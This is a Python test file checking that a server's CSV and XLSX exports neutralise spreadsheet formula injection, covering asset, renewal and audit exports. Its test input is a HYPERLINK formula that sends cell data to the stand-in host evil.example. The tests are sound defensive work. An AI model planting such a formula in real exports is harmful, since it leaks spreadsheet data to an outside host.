"""Exports cannot run formulas (OWASP CSV injection): text an agent or a person typed that begins
with = + - @ tab or CR is neutralised in every CSV, and is a string, never a formula, in XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from server.core.tabular import neutralise, write_rows
from tests.server.web.test_csrf import form_token
from tests.utils import example, make_enrolment_token, make_member, make_user, post_inventory, variant

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("text", [EVIL, "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_a_spreadsheet_would_evaluate_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text
    (written,) = csv.reader(io.StringIO(write_rows([[text]]).decode("utf-8-sig"), newline=""), delimiter=";")
    assert written == ["'" + text]


@pytest.mark.parametrize("text", ["-12,50", "-1 234,56 €", "+33", "PC-01", "plain"])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert neutralise(text) == text


def _formulas(xlsx: bytes) -> list[str]:
    """The formula cells of a workbook (<f> elements), and any string cell still starting with '='
    written as a formula type."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    return [s for s in sheets if "<f>" in s or 't="f"' in s]


@pytest.fixture
def evil_parc(client, engine):  # type: ignore[no-untyped-def]
    member = make_member(engine, "Servon")
    inventory = variant(example("computer_1"), hardware__name=EVIL)
    assert post_inventory(client, inventory, token=make_enrolment_token(engine, member)).status_code == 200
    return make_user(engine, "dsit", role="admin")


def test_the_assets_exports_hold_no_formula(client, evil_parc) -> None:  # type: ignore[no-untyped-def]
    exported = client.get("/api/v1/assets/export", params={"format": "csv"}, headers=evil_parc)
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text.lstrip("\ufeff")), delimiter=";") for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    xlsx = client.get("/api/v1/assets/export", params={"format": "xlsx"}, headers=evil_parc)
    assert xlsx.status_code == 200 and not _formulas(xlsx.content)
    assert b"HYPERLINK" in zipfile.ZipFile(io.BytesIO(xlsx.content)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("report", ["plan", "obsolescence"])
def test_the_renewal_reports_hold_no_formula(client, evil_parc, report: str) -> None:  # type: ignore[no-untyped-def]
    xlsx = client.get(f"/api/v1/renewal/reports/{report}", params={"format": "xlsx"}, headers=evil_parc)
    assert xlsx.status_code == 200, xlsx.text
    assert not _formulas(xlsx.content)
    exported = client.get(f"/api/v1/renewal/reports/{report}", params={"format": "csv"}, headers=evil_parc)
    assert exported.status_code == 200
    rows = csv.reader(io.StringIO(exported.text.lstrip("\ufeff")), delimiter=";")
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_a_failed_sign_in_name_is_no_formula_in_the_audit_export(client, engine) -> None:  # type: ignore[no-untyped-def]
    admin = make_user(engine, "dsit", role="admin")
    client.post("/login", data={"username": EVIL, "password": "x", "next": "/", "csrf_token": form_token(client)},
                follow_redirects=False)  # fmt: skip
    export = client.get("/api/v1/audit/export", params={"format": "csv"}, headers=admin)
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff")), delimiter=";"))
    assert any("HYPERLINK" in cell for row in rows for cell in row), "the failed sign-in is not in the export"
    assert not any(cell.startswith("=") for row in rows for cell in row), export.text[-500:]
